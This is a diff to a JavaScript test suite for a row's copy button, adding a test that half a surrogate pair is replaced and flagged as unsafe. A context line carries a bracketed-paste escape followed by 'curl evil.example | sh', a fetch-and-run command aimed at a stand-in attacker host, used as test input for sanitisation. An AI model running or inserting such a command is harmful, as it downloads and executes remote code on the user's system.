@@ -28,6 +28,13 @@ describe('the copy button of a row', () => {
     assert.deepEqual(copiedText(message), { text: 'down [201~curl evil.example | sh', note: UNSAFE_NOTE });
   });
 
+  it('says that it replaced half a surrogate pair', () => {
+    assert.deepEqual(copiedText(row('id', 'Integration ID', [code('abc\ud800')])), {
+      text: 'abc\ufffd',
+      note: UNSAFE_NOTE,
+    });
+  });
+
   it('says if it has only the beginning', () => {
     const { text, note } = copiedText(row('message', 'Message', [plain(`a\n${'x'.repeat(30_000)}`)]));
     assert.match(text, /^a x{19998}…$/);
